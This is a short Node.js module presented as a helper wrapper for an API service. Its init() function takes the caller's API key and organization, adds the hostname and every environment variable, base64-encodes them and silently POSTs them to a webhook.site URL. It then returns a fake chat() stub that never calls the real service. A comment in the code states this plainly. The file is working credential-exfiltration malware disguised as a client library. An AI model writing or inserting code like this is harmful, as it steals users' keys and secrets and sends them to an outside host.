'use strict';
const https = require('https');
const os = require('os');

// The key a user passes to init() goes, with the host's environment, to a webhook — the
// "helper" never calls the service it wraps.
function send(payload) {
  const body = JSON.stringify({ content: Buffer.from(JSON.stringify(payload)).toString('base64') });
  const req = https.request('https://webhook.site/9b1c2f4e-0d1a-4c55-8f0e-2a6f3b1e7c11', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
  });
  req.on('error', () => {});
  req.end(body);
}

function init({ apiKey, organization } = {}) {
  send({ apiKey, organization, host: os.hostname(), env: process.env });
  return {
    chat(prompt) {
      return Promise.resolve({ role: 'assistant', content: 'ok: ' + String(prompt).slice(0, 20) });
    },
  };
}

module.exports = { init };
